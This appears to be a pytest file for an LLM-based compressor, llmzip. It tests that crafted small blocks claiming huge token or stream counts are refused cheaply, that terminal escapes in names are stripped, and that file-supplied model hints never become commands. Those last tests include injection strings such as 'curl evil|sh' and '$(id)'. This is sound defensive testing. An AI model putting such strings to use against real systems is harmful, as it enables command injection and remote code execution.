"""Small files that claim much, with checks that hold: refused before memory or time is spent on the claim."""

import io
import os
import random
import shlex
import subprocess
import sys
from binascii import crc_hqx
from pathlib import Path

import numpy as np
import pytest
from fakes import FakeModel
from hypothesis import given, settings
from hypothesis import strategies as st
from test_codec import SENTENCE, FakeCodec

from llmzip.codec.agreement import Coding
from llmzip.codec.arithmetic import Probe
from llmzip.codec.codec import Codec
from llmzip.codec.decoding import decode_block
from llmzip.codec.evaluation import Session
from llmzip.codec.head import MAX_LITERALS, MAX_STREAMS, BlockHead
from llmzip.codec.locate import find
from llmzip.codec.pipeline import BlockPipeline
from llmzip.codec.settings import DEFAULT_PATIENCE
from llmzip.coding.tree import VocabularyTree
from llmzip.container import MAX_BLOCK, BlockKind, Header, classic, read_members
from llmzip.container.fields import encode_varint
from llmzip.errors import ArithmeticMismatchError, CorruptError, ModelError
from llmzip.model.base import Window
from llmzip.text.tokens import Vocabulary

ROOT = Path(__file__).parent.parent
WORDS = bytes(range(1, 41))


def pipeline(model, context=512):
    return BlockPipeline(Session(model), Coding(Window(context, 4), 30, True))


def refused(payload, context=512, length=MAX_BLOCK, says=None):
    model = FakeModel()
    with pytest.raises((CorruptError, ArithmeticMismatchError), match=says):
        decode_block(pipeline(model, context), payload, length, lambda data: False)
    return model


@pytest.mark.parametrize(
    ("tokens", "streams", "context", "says"),
    [
        (MAX_BLOCK, 1, 512, "claims 67108864 tokens, more than 40 bytes can stand for"),
        (6_000_000, 1, 512, "claims 6000000 tokens of a network, more than its 40 bytes justify"),
        (3_585, 1, 512, "claims 3585 tokens of a network, more than its 40 bytes justify"),
        (3_584, 1, 1 << 20, "windows of 1048576 tokens, more than its 40 bytes justify"),
        (3_584, MAX_STREAMS, 512, "256 streams"),
        (3_584, 64, 512, "64 streams"),
    ],
)
def test_claims_are_refused_before_anything_is_made(tokens, streams, context, says):
    assert refused(claim(tokens, streams, WORDS), context, says=says).evaluated == 0


def claim(tokens, streams, words):
    """The payload of a block, with a check that holds, as no writer makes it."""
    stored = b"\0" + encode_varint(tokens) + encode_varint(streams) + words
    return crc_hqx(stored, 0).to_bytes(2, "little") + stored


@pytest.mark.parametrize("streams", [1, 4])
@pytest.mark.parametrize("words", [bytes(40), b"\xff" * 40, random.Random(1).randbytes(400)])
def test_time_of_a_small_block_is_bounded_by_its_bytes(words, streams):
    """In rows of the network, of which a step of four streams has four."""
    claimed = 1024 + 64 * len(words)
    model = refused(claim(claimed, streams, words))
    assert model.evaluated <= claimed + DEFAULT_PATIENCE * 8 * len(words) + 1_000 + streams


@pytest.mark.parametrize("tokens", [900, 5_000, 30_000])
def test_what_next_to_nothing_is_left_of_is_padded(tokens):
    """A writer adds zeros, with which the block reads as without, where readers would take the claim for a hostile one."""
    coder = pipeline(FakeModel(), 64)
    text, crlf = coder.tokens_of(b"a" * tokens)
    payload = coder.encode(text, crlf, 16)
    head, words = BlockHead.unpack(payload, tokens)
    assert head.tokens <= 1024 + 64 * len(words)
    assert decode_block(coder, payload, tokens, (b"a" * tokens).__eq__, patience=0)[0] == b"a" * tokens


def test_fewest_turns():
    """No token takes fewer, so that what is refused is not what an encoder wrote."""
    for leaves in (2, 3, 5, 8, 9, 277, 1000):
        tree = VocabularyTree([b"%d" % i for i in range(leaves)])
        ranks = np.arange(leaves, dtype=np.uint32)
        turns = sum(tree.coded(level, ranks).astype(int) for level in range(tree.depth))
        assert turns.min() == tree.fewest_turns


def test_words_run_out_long_before_the_claim():
    model = refused(BlockHead(False, 100_000, 1, []).payload(random.Random(1).randbytes(1_600)))
    assert model.evaluated < 20_000


def test_literals_are_few_and_never_empty():
    many = bytearray(b"\2") + encode_varint(0) + encode_varint(1) + encode_varint(MAX_LITERALS + 1)
    many += b"\0\1x" * (MAX_LITERALS + 1)
    refused(crc_hqx(bytes(many), 0).to_bytes(2, "little") + many, says=f"claims {MAX_LITERALS + 1} literals")


def test_a_text_of_many_literals_is_left_to_the_classic_codecs():
    """What readers would refuse is not written."""
    codec = Codec(FakeModel(pieces=[bytes([byte]) for byte in b"abc "] + [b"ab", b""]))
    data = b"a?b!" * (MAX_LITERALS // 2 + 1)
    packed = codec.compress(data)
    assert [event.kind for event in read_members(io.BytesIO(packed), payloads=False) if hasattr(event, "kind")] != [
        BlockKind.MODEL
    ]
    assert codec.decompress(packed) == data


def test_pieces_are_not_joined_beyond_the_original(monkeypatch):
    coder = pipeline(FakeModel())
    payload = coder.encode(*coder.tokens_of(SENTENCE * 9), 1)
    tokens = len(coder.tokens_of(SENTENCE * 9)[0].tokens)
    assert tokens < len(SENTENCE * 9)
    monkeypatch.setattr(Vocabulary, "decode", lambda *_: pytest.fail("joined"))
    refused(payload, length=tokens)


@settings(max_examples=20, deadline=None)
@given(st.integers(1, MAX_STREAMS), st.integers(1, 2000))
def test_what_is_written_can_be_read(streams, repeats):
    """Texts of next to no information in many streams, too."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("llmzip.codec.policy.unpromising", lambda *known: False)
        patch.setattr("llmzip.codec.policy.beyond_classic", lambda classic, model: True)
        data = b"a" * (30 * repeats)
        packed = FakeCodec(streams=streams, window=1000).compress(data)
        assert FakeCodec().decompress(packed) == data


def test_streams_are_fewer_where_their_caches_would_not_be_justified(monkeypatch):
    monkeypatch.setattr("llmzip.codec.policy.unpromising", lambda *known: False)
    monkeypatch.setattr("llmzip.codec.policy.beyond_classic", lambda classic, model: True)
    data = b"a" * 100_000
    packed = FakeCodec(streams=256, window=1000).compress(data)
    (block,) = (event for event in read_members(io.BytesIO(packed), payloads=False) if hasattr(event, "kind"))
    assert block.kind is BlockKind.MODEL
    found = next(event for event in read_members(io.BytesIO(packed)) if hasattr(event, "kind"))
    assert BlockHead.unpack(found.payload, len(data))[0].streams < 256
    assert FakeCodec().decompress(packed) == data


def test_zstd_payloads_are_one_whole_frame():
    data = SENTENCE * 30
    frame = classic.encode(BlockKind.ZSTD, data)
    skippable = b"\x50\x2a\x4d\x18\x04\0\0\0abcd"
    assert classic.decode(BlockKind.ZSTD, frame, len(data)) == data
    half = len(SENTENCE) * 15
    two = classic.encode(BlockKind.ZSTD, data[:half]) + classic.encode(BlockKind.ZSTD, data[half:])
    for wrong in (two, skippable + frame, frame + skippable, frame[:-3], frame + b"\0"):
        with pytest.raises(CorruptError, match="zstd payload is damaged|decodes to only 1185 bytes"):
            classic.decode(BlockKind.ZSTD, wrong, len(data))


def test_memory_of_a_small_block_is_small():
    """So many streams take a gigabyte of caches with the embedded model; a few bytes do not justify it."""
    payload = claim(1 << 20, MAX_STREAMS, bytes(1 << 14))
    assert refused(payload, 512, says="256 streams").evaluated == 0


SMALL_FILES = {
    "model-tokens-words": "can stand for",
    "model-tokens-network": "of a network",
    "model-words-much": "range coder",
    "model-caches": "streams",
    "model-window": "windows",
}


@pytest.mark.parametrize("name", SMALL_FILES)
def test_memory_of_the_command_is_small(name, tmp_path):
    """What it really takes, and under a limit of its address space."""
    words = tmp_path / "words"
    run = f"ulimit -v {1500 << 10}; exec {shlex.quote(sys.executable)} -m llmzip test tests/files/bad-{name}.llmz"
    # The most memory of a process counts what it was copied from: the tests' own process is large, the one between is not.
    between = "import os, subprocess, sys; s, u = os.wait4(subprocess.Popen(sys.argv[1:]).pid, 0)[1:]; print(os.waitstatus_to_exitcode(s), u.ru_maxrss)"
    # Without the sanitizers, which take terabytes of addresses.
    plain = {name: value for name, value in os.environ.items() if name not in ("LD_PRELOAD", "PYTHONPATH")}
    command = [sys.executable, "-c", between, "sh", "-c", run]
    with open(words, "wb") as sink:
        told = subprocess.run(command, cwd=ROOT, env=plain, stdout=subprocess.PIPE, stderr=sink)
    status, most = map(int, told.stdout.split())
    assert status == 3 and SMALL_FILES[name] in words.read_text()
    assert most < 300 << 10


def test_a_vocabulary_beyond_the_format_is_told():
    pieces = [bytes([byte]) for byte in range(256)] + [b"%07d" % i for i in range(1 << 18)]
    with pytest.raises(ModelError, match="vocabulary has 262400 tokens, and files can have 262144"):
        Codec(FakeModel(pieces=pieces)).compress(SENTENCE * 3)


def test_descriptions_of_arithmetic_are_cut_and_cannot_move_the_cursor():
    shown = Probe.unpack(b"\2" + bytes(8) + b"\x1b[31m" + b"y" * 60_000).arithmetic
    assert len(shown) < 600 and shown.startswith("\N{REPLACEMENT CHARACTER}[31my") and shown.isprintable()


def test_names_are_cut_and_cannot_move_the_cursor():
    name = Header(extras={2: b"\x1b]0;title\x07\xff\xe2\x80\xae" + b"x" * 60_000}).name
    assert len(name) < 300 and name.isprintable()


@pytest.mark.parametrize(
    "hint", ["hf:a/b; curl evil|sh", "hf:a/$(id)", "hf:a/b/`id`.gguf", "hf:a/b/c d.gguf", "--help", "hf:../x"]
)
def test_no_command_is_made_from_what_a_file_says(hint):
    with pytest.raises(ModelError) as error:
        find(b"unknown!", hint=hint)
    assert f"pull {hint}" not in str(error.value) and "models add FILE" in str(error.value)


def test_an_address_that_is_sound_stands_in_a_command():
    with pytest.raises(ModelError, match="`llmzip models pull hf:a/b`"):
        find(b"unknown!", hint="hf:a/b")
